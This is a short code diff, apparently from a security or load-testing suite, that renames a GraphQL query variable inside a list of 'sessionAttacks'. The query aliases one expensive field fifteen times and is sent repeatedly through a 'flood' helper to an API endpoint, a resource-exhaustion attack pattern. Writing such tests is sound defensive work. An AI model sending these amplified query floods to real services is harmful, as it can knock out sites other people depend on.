@@ -33,7 +33,7 @@ export const sessionAttacks: readonly Attack[] = [
         'content-type': 'application/json',
         'x-bc-region': 'us',
       }
-      const body = JSON.stringify({ query: dearQuery, variables: { ids: target.productIds.slice(0, 24) } })
+      const body = JSON.stringify({ query: expensiveQuery, variables: { ids: target.productIds.slice(0, 24) } })
       return flood(4, () => ({ path: '/api/graphql', method: 'POST', headers, body }))
     },
   },
@@ -43,7 +43,7 @@ const aliases = Array.from(
   { length: 15 },
   (_, index) => `a${index}: relatedProducts(ids: $ids, locale: "en-us", bcRegion: "us", size: 24) { ...all }`,
 )
-const dearQuery = /* GraphQL */ `
+const expensiveQuery = /* GraphQL */ `
   query ($ids: [Int!]) { ${aliases.join(' ')} }
   fragment all on RelatedProduct {
     uid title display_title tagline description url
